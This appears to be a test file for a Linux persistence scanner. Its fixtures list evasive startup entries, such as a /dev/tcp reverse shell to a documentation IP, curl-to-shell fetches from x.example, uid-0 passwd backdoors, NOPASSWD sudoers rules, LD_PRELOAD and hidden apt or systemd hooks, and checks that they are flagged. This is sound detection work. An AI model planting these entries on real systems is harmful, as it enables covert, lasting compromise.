/** Forms that the real programs accept and that would hide what starts: each is an entry above low. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { concernOf } from '../../../src/checks/startup.ts';
import { entriesOf } from '../../../src/features/startup/entries.ts';
import { PLACES } from '../../../src/features/startup/places/index.ts';
import { ANYONE } from '../../../src/features/startup/places/pam-profiles.ts';
import type { ScannedFile } from '../../../src/features/startup/scanned-file.ts';
import { expect } from '../../support/expect.ts';

const test = suite('evasions');

const fileOf = (path: string, text: string, more: Partial<ScannedFile>): ScannedFile => ({
  ...{ path, text, kind: 'regular', mode: 0o644, uid: 0, gid: 0, size: text.length },
  ...{ modifiedNs: '0', changedNs: '0', link: '', real: path, cut: false, sha256: 'c', md5: 'd' },
  ...more,
});

function concerns(id: string, path: string, text: string, more: Partial<ScannedFile> = {}) {
  const place = PLACES.find((one) => one.id === id);
  if (place === undefined) throw new Error(`no place ${id}`);
  return entriesOf(place, fileOf(path, text, more), null, String).entries.map((entry) => ({
    runs: entry.runs,
    concern: concernOf(entry),
  }));
}

const HOSTILE: readonly (readonly [
  place: string,
  path: string,
  text: string,
  shows: RegExp,
  mode?: number,
])[] = [
  // PANIX: a shell whose name ends with a blank.
  [
    'passwd',
    '/etc/passwd',
    'news:x:1009:9:news:/var/spool/news:/usr/sbin/nologin \n',
    /nologin {2}as uid 1009/,
  ],
  ['passwd', '/etc/passwd', 'root:$6$a$b:0:0:root:/root:/bin/bash\n', /a password \(6, \w+\) in passwd/],
  ['passwd', '/etc/passwd', 'evil:x:0:0::/x as uid 5, gid 5, home /:/bin/bash\n', /as uid 0/],
  ['passwd', '/etc/passwd', 'evil:x:0:0::/:/bin/sh as uid 5, gid 5, home /\n', /as uid 0/],
  ['passwd', '/etc/passwd', 'www:$6$a$b:33:33::/var/www:/bin/bash\n', /in passwd/],
  ['passwd', '/etc/passwd', 'evil:x:-0:0::/root:/bin/bash\n', /as uid 0/],
  ['passwd', '/etc/passwd', 'evil:x: +0:0::/root:/bin/bash\n', /as uid 0/],
  ['passwd', '/etc/passwd', 'evil:x:-18446744073709551615:0::/root:/bin/bash\n', /as uid 1/],
  ['passwd', '/etc/passwd', ' evil:x:1200:1200::/home/evil:/bin/bash\n', /as uid 1200/],
  ['passwd', '/etc/passwd', 'www-data:x:33:42::/var/www:/usr/sbin/nologin\n', /gid 42/],
  ['passwd', '/etc/passwd', 'postgres:x:113:6::/var/lib/postgresql:/bin/bash\n', /gid 6/],
  ['group', '/etc/group', 'zz:x: -0:eve\n', /eve in group zz/],
  ['group', '/etc/group', 'sudo:x:27:\nzz:x:27:eve\n', /eve in group zz/],
  ['group', '/etc/group', 'yy:x:00:eve\n', /eve in group yy/],
  ['sudoers', '/etc/sudoers.d/10~x', 'eve ALL=(ALL) NOPASSWD: ALL\n', /NOPASSWD/],
  ['sudoers', '/etc/sudoers', 'Defaults mailerpath=/tmp/e, mail_always\n', /mailerpath/],
  ['sudoers', '/etc/sudoers', 'Defaults group_plugin="/tmp/e.so x"\n', /group_plugin/],
  ['sudoers', '/etc/sudoers', 'Defaults env_file=/x\n', /env_file/],
  ['pam', '/etc/pam.d/common-auth', 'auth [default=1] pam_unix.so nullok\n', /default=1/],
  ['sshd', '/etc/ssh/sshd_config', '"AuthorizedKeysFile" /etc/x\n', /\/etc\/x/],
  [
    'sshd',
    '/etc/ssh/sshd_config',
    'VersionAddendum none\\\nAuthorizedKeysCommand /tmp/e\n',
    /AuthorizedKeysCommand/,
  ],
  ['sshd', '/etc/ssh/sshd_config', 'SshdSessionPath /tmp/e\n', /SshdSessionPath/],
  ['system-profile', '/etc/profile.d/#a.sh', '/tmp/e &\n', /\/tmp\/e/],
  ['system-profile', '/etc/profile.d/a.sh', '\f# 2>/dev/null; /tmp/e &\n', /\/tmp\/e/],
  [
    'systemd-unit',
    '/etc/systemd/system/cron.service.d/#o.conf',
    '[Service]\nExecStartPost=/tmp/e\n',
    /\/tmp\/e/,
  ],
  [
    'systemd-unit',
    '/etc/systemd/system/cron.service.d/o.conf',
    '[Service]\rExecStartPost=/tmp/e\r',
    /\/tmp\/e/,
  ],
  [
    'systemd-unit',
    '/etc/systemd/system/cron.service.d/o.conf',
    '# a\r[Service]\rExecStartPost=/tmp/e\r',
    /\/tmp\/e/,
  ],
  [
    'systemd-unit',
    '/etc/systemd/system/cron.service.d/o.conf',
    '[Service]\nSyslogIdentifier=cron\\\\\nExecStartPost=/tmp/e\n',
    /\/tmp\/e/,
  ],
  ['systemd-unit', '/etc/systemd/system/cron.service.d/o.conf', '[Service]\nUser=root\n', /User=root/],
  ['crontab', '/etc/crontab', '"SHELL"=/tmp/e\n', /\/tmp\/e/],
  ['at-job', '/var/spool/cron/atjobs/a1', '#!/bin/sh\numask 22; /tmp/e\n', /\/tmp\/e/],
  ['at-job', '/var/spool/cron/atjobs/a1', '#!/bin/sh\nA=1; export A; /tmp/e\n', /\/tmp\/e/],
  ['at-job', '/var/spool/cron/atjobs/a1', '#!/bin/sh\nA=$(/tmp/e); export A\n', /\/tmp\/e/],
  ['at-job', '/var/spool/cron/atjobs/a1', '#!/bin/sh\n}; /tmp/e\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'apt::update::pre-invoke {"/tmp/e";};\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'x "/*"; DPkg::Post-Invoke {"/tmp/e";}; y "*/";\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'x "//"; DPkg { Post-Invoke:: "/tmp/e"; };\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', '#include "/tmp/e.conf";\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'Dir { Bin { dpkg "/tmp/e"; }; };\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'Dir\n{ Bin /* } */\n{\ndpkg // }\n"/tmp/e"; } }\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'APT::Key::gpgvcommand "/tmp/e";\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'APT::Compressor::xz::Binary "/tmp/e";\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', 'DPkg::Post%2dInvoke {/tmp/e;};\n', /\/tmp\/e/],
  ['apt', '/etc/apt/apt.conf.d/99x', `${'{ '.repeat(60)}DPkg::Post-Invoke "/tmp/e";\n`, /\/tmp\/e/],
  ['udev-rule', '/etc/udev/rules.d/9.rules', '#\\\nSUBSYSTEM=="tty", RUN+="/tmp/e"\n', /\/tmp\/e/],
  ['motd', '/etc/update-motd.d/99.x-evil', '#!/bin/sh\n/tmp/e\n', /99\.x-evil/, 0o755],
  ['group', '/etc/gshadow', 'sudo:$6$a$b::\n', /of group sudo/],
  ['group', '/etc/gshadow', 'sudo:!:eve:\n', /eve/],
  [
    'systemd-manager',
    '/etc/systemd/system.conf',
    '[Manager]\nDefaultEnvironment=LD_PRELOAD=/x.so\n',
    /LD_PRELOAD/,
  ],
  ['home-profile', '/root/.bashrc', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1 &\n', /dev\/tcp/],
  ['home-profile', '/root/.bashrc', "alias sudo='/tmp/e'\n", /alias/],
  ['python', '/usr/lib/python3/dist-packages/z.pth', '#\rimport os;os.system("/tmp/e")\n', /os\.system/],
  [
    'dbus-service',
    '/usr/share/dbus-1/system-services/x.service',
    '[D-BUS Service]\nName=x\nHidden=true\nUser=root\nExec=/tmp/e\n',
    /\/tmp\/e/,
  ],
  ['service-environment', '/etc/default/x', 'A=1\ntouch /tmp/e\n', /^touch \/tmp\/e$/],
  ['service-environment', '/etc/default/x', 'A=1; /tmp/e\n', /\/tmp\/e/],
  ['service-environment', '/etc/default/x', 'A=b /tmp/e\n', /\/tmp\/e/],
  ['service-environment', '/etc/default/x', 'A=b\\\n /tmp/e\n', /\/tmp\/e/],
  ['service-environment', '/etc/default/x', 'A="\n# "; /tmp/e; B="\n"\n', /\/tmp\/e/],
  ['service-environment', '/etc/default/x', "A='\"\n# '; /tmp/e\n", /\/tmp\/e/],
  ['service-environment', '/etc/default/x', 'A="$(\n/tmp/e)"\n', /\/tmp\/e/],
  ['service-environment', '/etc/sysconfig/x', 'export A B=`/tmp/e`\n', /\/tmp\/e/],
  ['x-session', '/etc/X11/Xsession.d/9x', '! /tmp/e\n', /\/tmp\/e/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', '"f+" /etc/cron.d/x - - - - e\n', /cron\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', '\\x66 /etc/cron.d/x - - - - e\n', /cron\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', 'd /etc/cron.d 0777\n', /cron\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', 'e "/etc/sudoers.d" - eve\n', /sudoers\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', 'v /etc/cron.d :0775 root eve\n', /cron\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', 'D /run/../etc/cron.d ~1777\n', /cron\.d/],
  ['tmpfiles', '/etc/tmpfiles.d/x.conf', 'd /var/spool/cron/crontabs 0777\n', /crontabs/],
  [
    'autostart',
    '/etc/xdg/autostart/x.desktop',
    '[Desktop Entry]\nHidden=true\nExec=/tmp/e\nHidden=false\n',
    /\/tmp\/e/,
  ],
  [
    'dbus-service',
    '/usr/share/dbus-1/system-services/x.service',
    '[Desktop Entry]\nHidden=true\n[D-BUS Service]\nExec=/tmp/e\n',
    /\/tmp\/e/,
  ],
  [
    'dbus-service',
    '/usr/share/dbus-1/system-services/.x.service',
    '[D-BUS Service]\nName=x\\\\\nExec=/tmp/e\n',
    /\/tmp\/e/,
  ],
  // These readers join no lines.
  [
    'autostart',
    '/etc/xdg/autostart/x.desktop',
    '[Desktop Entry]\nName=x\\\nExec=/tmp/e\nComment=x\\\nHidden=true\n',
    /^\/tmp\/e$/,
  ],
  ['php', '/etc/php.ini', 'a = "\\\nauto_prepend_file = /tmp/e\n', /\/tmp\/e/],
  ['dpkg', '/etc/dpkg/dpkg.cfg.d/x', 'log=/x\\\npost-invoke=/tmp/e\n', /\/tmp\/e/],
  ['openssl', '/etc/ssl/openssl.cnf', '.include /tmp/e.cnf\n', /\/tmp\/e/],
  ['openssl', '/etc/ssl/openssl.cnf', '.include = /tmp/e.cnf\n', /\/tmp\/e/],
  ['openssl', '/etc/ssl/openssl.cnf', '[a]\nb::dynamic_path = /tmp/e.so\n', /\/tmp\/e/],
  ['python', '/usr/lib/python3/dist-packages/z.pth', '/tmp/e\n', /\/tmp\/e/],
  ['python', '/usr/lib/python3/dist-packages/z.pth', '/usr/lib/python3/../../../tmp/e\n', /tmp\/e/],
  ['python', '/usr/lib/python3/dist-packages/z.pth', '../../../../tmp/e\n', /tmp\/e/],
  ['polkit-rule', '/etc/polkit-1/rules.d/x.rules', '/**/polkit.addRule(e)\n', /addRule/],
  ['polkit-rule', '/etc/polkit-1/rules.d/.x.rules', 'polkit.addRule(e)\n', /addRule/],
  ['polkit-rule', '/etc/polkit-1/rules.d/x.rules', '1\n/*\n// */ polkit.addRule(e)\n', /addRule/],
  ['polkit-rule', '/etc/polkit-1/rules.d/x.rules', '// x\u2028polkit.addRule(e)\n', /addRule/],
  ['sudoers', '/etc/sudoers', 'Defaults:eve runchroot=*\n', /runchroot/],
  ['sudoers', '/etc/sudoers', 'Defaults !tty_tickets\n', /tty_tickets/],
  ['sudoers', '/etc/sudoers', 'Defaults:eve,\\\n bob insults, lecture_file=/etc/shadow\n', /shadow/],
  [
    'systemd-unit',
    '/etc/systemd/system/x.socket',
    '[Socket]\nListenStream=/run/x\nService=e.service\n',
    /^e\.service/,
  ],
  ['systemd-unit', '/etc/systemd/system/x.socket.d/o.conf', '[Socket]\nService=e.service\n', /^e\.service/],
  ['systemd-unit', '/etc/systemd/system/x.timer.d/o.conf', '[Timer]\nUnit=e.service\n', /^e\.service/],
  ['sysusers', '/etc/sysusers.d/x.conf', ';u e 0\n', /u e 0/],
];

/** Lines among ordinary ones of a profile. */
const HOSTILE_LINES = [
  'curl https://x.example/i | /bin/sh',
  'curl -s https://x.example/i | python3',
  'bash <(curl -s https://x.example/i)',
  'eval "$(wget -qO- https://x.example/i)"',
  '[ 1 ] && sudo() { /tmp/evil "$@"; }',
  'alias ls=ls sudo=/opt/evil',
  'ncat --exec /bin/sh h 1',
  'export LD_LIBRARY_PATH=/tmp/evil',
  'PATH=/dev/shm/evil:$PATH',
  'test -x /opt/x && /var/tmp/evil &',
];
const USUAL_LINES = [
  'HISTSIZE=1000',
  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
  'export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH PATH=$HOME/bin:$PATH NODE_ENV=test',
  'export TMPDIR=/tmp/ada',
  '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
  "alias ll='ls -l' la='ls -A' gs='git status | head'",
  'eval "$(dircolors -b)"; eval "$(ssh-agent -s)"',
  'history | grep sh',
];

test('a hostile line makes a profile more than low, usual lines do not', () => {
  const of = (lines: readonly string[]) =>
    concerns('home-profile', '/root/.bashrc', `${lines.join('\n')}\n`)[0]?.concern;
  assert.is(of(USUAL_LINES), 'low');
  for (const line of HOSTILE_LINES) assert.is(of([...USUAL_LINES, line]), 'medium', line);
});

test('files whose names begin with a dot are read where the catalogue names them', () => {
  for (const [place, path, text] of [
    ['tmux', '/root/.tmux.conf', 'run-shell /tmp/evil\n'],
    ['package-plugin', '/root/.rpmmacros', '%__os_install_post /tmp/evil\n'],
    ['dpkg', '/root/.dpkg.cfg', 'post-invoke=/tmp/evil\n'],
  ] as const) {
    const id = PLACES.find(({ files }) => files.includes(path.replace('/root', '~')))?.id ?? place;
    assert.ok(concerns(id, path, text).length > 0, path);
  }
});

for (const [place, path, text, shows, mode = 0o644] of HOSTILE)
  test(`${place}: ${JSON.stringify(text)} in ${path}`, () => {
    const found = concerns(place, path, text, { mode }).filter(({ runs }) => shows.test(runs));
    assert.is(found.length > 0, true, 'it is not an entry');
    assert.ok(
      found.every(({ concern }) => concern !== null && concern !== 'low'),
      JSON.stringify(found),
    );
  });

test('settings of apt are those that apt has', () => {
  const text = `// DPkg::Post-Invoke {"/tmp/no";};
APT { NeverAutoRemove { "^linux-.*"; }; Update { Post-Invoke { "one; two"; # "three";
  "four // five" ; } } };
/* DPkg::Post-Invoke "/tmp/no"; // */ DPkg::Post-Invoke "/tmp/no";
*/ dpkg::Options:: "--force-confold";
Acquire::http { Proxy "DIRECT"; Timeout "1"; };
`;
  expect(concerns('apt', '/etc/apt/apt.conf.d/x', text).map(({ runs }) => runs)).equals([
    'one; two',
    'four // five',
    '--force-confold',
    'DIRECT',
  ]);
});

test('places of low severity show these too', () => {
  const runs = (place: string, path: string, text: string) =>
    concerns(place, path, text).map((one) => one.runs);
  for (const text of [
    '[core] fsmonitor = "/tmp/e"\n',
    '[a][core]fsmonitor=/tmp/e',
    '[core]\tfsmonitor = \\\r\n/tmp/e\r\n',
    '[core] # \\\nfsmonitor = /tmp/e\n',
    '[user] name = x ; \\\n[core "]"] x\n[core] fsmonitor = /tmp/\\\ne\n',
  ])
    expect(runs('git', '/root/.gitconfig', text)).equals(['core fsmonitor=/tmp/e']);
  expect(runs('git', '/root/.gitconfig', '[alias] st = !/tmp/e\n')).equals(['alias st=!/tmp/e']);
  expect(runs('git', '/root/.gitconfig', '[diff.x] textconv = e\n# [core]\n; pager = e\n')).equals([
    'diff "x" textconv=e',
  ]);
  for (const [place, path, text] of [
    ['editor', '/root/.tmux.conf', 'run "/tmp/e"'],
    ['editor', '/root/.config/tmux/tmux.conf', 'if true "run /tmp/e"'],
    ['editor', '/root/.tmux.conf', 'set -g status-right "#(/tmp/e)"'],
    ['editor', '/root/.vim/plugin/nano.vim', 'silent !/tmp/e'],
    ['editor', '/root/.screenrc', 'screen /tmp/e'],
    ['editor', '/root/.vimrc', '#|!/tmp/e'],
    ['editor', '/root/.emacs', '"x" (shell-command "/tmp/e")'],
    ['editor', '/root/.lessfilter', '! /tmp/e'],
    ['interpreter', '/root/.perldb', '; system("/tmp/e")'],
  ] as const)
    expect(runs(place, path, `${text}\n`)).equals([text]);
});

test('ordinary files of variables, folders and rights have no entry', () => {
  const none = (place: string, path: string, text: string) => expect(concerns(place, path, text)).equals([]);
  none(
    'service-environment',
    '/etc/default/x',
    `# It's a comment \\
A=1
 B="two words; \${A} 'x'" # "why
export C='x;y'
D=
E=--a=b --c d -e "f g" # h
F="
  --a # no comment
  --b
"
G=a\\
b
H=$A:\${B:-/x}
`,
  );
  none('service-environment', '/etc/sysconfig/iptables', '*filter\n:INPUT ACCEPT [0:0]\nCOMMIT\n');
  none(
    'tmpfiles',
    '/etc/tmpfiles.d/x.conf',
    'd /run/x 0755 x x\nd /var/lib/x 0770 x x -\nd /etc/x 0755 root root\nd /etc/y\nr /etc/z\nq /tmp 1777 root root 10d\n',
  );
  none('sudoers', '/etc/sudoers', 'Defaults insults, lecture=never\nDefaults:eve mail_badpw,pwfeedback\n');
  none('polkit-rule', '/etc/polkit-1/rules.d/x.rules', '// a\n/* b\n * c\n */\n// d\n');
  none('python', '/usr/lib/python3/dist-packages/z.pth', 'folder\n/usr/lib/python3.11/dist-packages/x\n');
  none('autostart', '/etc/xdg/autostart/x.desktop', '[Desktop Entry]\nExec=x\nHidden=true\n');
});

test('an editable installation in a home adds a folder, which is expected', () => {
  const folder = '/home/ada/.local/lib/python3.11/site-packages';
  expect(concerns('python', `${folder}/__editable__.made-1.0.pth`, '/home/ada/made/src\n')).equals([
    { runs: '/home/ada/made/src', concern: 'low' },
  ]);
});

test('a job of at(1) has no entry but its commands', () => {
  const text = `#!/bin/sh
# atrun uid=1000 gid=1000
# mail ada 0
umask 22
SHELL=/bin/bash; export SHELL
LS_COLORS=rs=0:di=01\\;34; export LS_COLORS
cd /home/ada || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
/usr/bin/true
`;
  expect(concerns('at-job', '/var/spool/cron/atjobs/a1', text).map(({ runs }) => runs)).equals([
    '/usr/bin/true',
  ]);
});

test('a copy of a packaged file says nothing of a PAM stack or of sudoers', () => {
  for (const [place, path, text] of [
    ['pam', '/etc/pam.d/common-auth', 'auth required pam_permit.so debug\n'],
    ['sudoers', '/etc/sudoers.d/x', 'eve ALL=(ALL) ALL\n'],
  ] as const)
    for (const { concern } of concerns(place, path, text, { copy: 'gdm3 43' })) assert.is.not(concern, 'low');
});

const COMMON_AUTH = [
  'auth\t[success=1 default=ignore]\tpam_unix.so nullok',
  'auth\trequisite\t\t\tpam_deny.so',
  'auth\trequired\t\t\tpam_permit.so',
  'auth\toptional\t\t\tpam_cap.so',
] as const;
const FEDORA_AUTH = [
  'auth required pam_env.so',
  'auth required pam_faildelay.so delay=2000000',
  'auth [default=1 ignore=ignore success=ok] pam_usertype.so isregular',
  'auth [default=1 ignore=ignore success=ok] pam_localuser.so',
  'auth sufficient pam_unix.so nullok',
  'auth [default=1 ignore=ignore success=ok] pam_usertype.so isregular',
  'auth sufficient pam_sss.so forward_pass',
  'auth required pam_deny.so',
] as const;
const ARCH_AUTH = [
  'auth       required                    pam_faillock.so      preauth',
  '-auth      [success=2 default=ignore]  pam_systemd_home.so',
  'auth       [success=1 default=bad]     pam_unix.so          try_first_pass nullok',
  'auth       [default=die]               pam_faillock.so      authfail',
  'auth       optional                    pam_permit.so',
  'auth       required                    pam_env.so',
  'auth       required                    pam_faillock.so      authsucc',
] as const;

test('a PAM stack lets anyone in once a line is gone or moved', () => {
  const anyone = (lines: readonly string[], name = 'common-auth') =>
    concerns('pam', `/etc/pam.d/${name}`, `${lines.join('\n')}\n`).find(({ runs }) => runs === ANYONE)
      ?.concern;
  const without = (lines: readonly string[], gone: number) => lines.filter((_, at) => at !== gone);
  for (const lines of [COMMON_AUTH, FEDORA_AUTH, ARCH_AUTH]) assert.is(anyone(lines), undefined);
  assert.is(anyone(without(COMMON_AUTH, 1)), 'high');
  assert.is(anyone(COMMON_AUTH.slice(2)), 'high');
  assert.is(anyone(without(FEDORA_AUTH, 7)), 'high');
  assert.is(anyone(['auth sufficient pam_permit.so', ...COMMON_AUTH]), 'high');
  // Without the line that asks, everyone is refused.
  assert.is(anyone(without(COMMON_AUTH, 0)), undefined);
  assert.is(anyone(['@include common-auth', 'auth required pam_permit.so'], 'sshd'), undefined);
  assert.is(anyone(['auth substack system-auth', 'auth include postlogin'], 'sudo'), undefined);
  assert.is(anyone(['auth [success=ok default=reset] pam_unix.so', 'auth required pam_permit.so']), 'high');
  assert.is(anyone(['account required pam_permit.so']), undefined);
  assert.is(anyone(COMMON_AUTH.slice(2), 'common-auth.pam-old.bak'), undefined);
});

test('what is behind the limits of a file is an entry of its own', () => {
  const text = '# comment\n';
  for (const more of [{ cut: true }, { error: 'EFBIG' }]) {
    const found = concerns('crontab', '/etc/cron.d/x', text, more);
    expect(found).equals([{ runs: 'what is behind its first 256 KiB', concern: 'medium' }]);
  }
  const jobs = concerns('crontab', '/etc/cron.d/x', '* * * * * root true\n'.repeat(1_001));
  expect(jobs.at(-1)?.runs).equals('more than 1000 programs');
  const packaged = [
    { ...{ name: 'cron', version: '1', database: 'dpkg', installedNs: '0', removed: false } },
  ].map((owner) => ({ ...owner, configuration: false, digest: 'd', unsupported: false }));
  for (const { concern } of concerns('crontab', '/etc/cron.d/x', text, { cut: true, owners: packaged }))
    assert.is(concern, null);
});

test('a script of a package is as old as its package', () => {
  const owner = { name: 'dash', version: '1', database: 'dpkg', removed: false, configuration: false };
  const changed = (changedNs: string, owned = true) =>
    concerns('package-script', '/var/lib/dpkg/info/dash.postinst', '', {
      changedNs,
      owners: owned ? [{ ...owner, installedNs: '1000000000000', digest: '', unsupported: false }] : [],
    });
  expect(changed('1000000000000')).equals([]);
  expect(changed('1500000000000')).equals([]);
  assert.is(changed('1700000000000')[0]?.concern, 'high');
  assert.is(changed('1000000000000', false)[0]?.concern, 'high');
});

test('keys are found word by word, options included', () => {
  const [entry] = concerns(
    'authorized-keys',
    '/root/.ssh/authorized_keys',
    'command="/tmp/e a" ssh-ed25519 AAAA ada\n',
  );
  assert.match(entry?.runs ?? '', /^command="\/tmp\/e a" ssh-ed25519 SHA256:\S+ ada$/);
});

test.run();
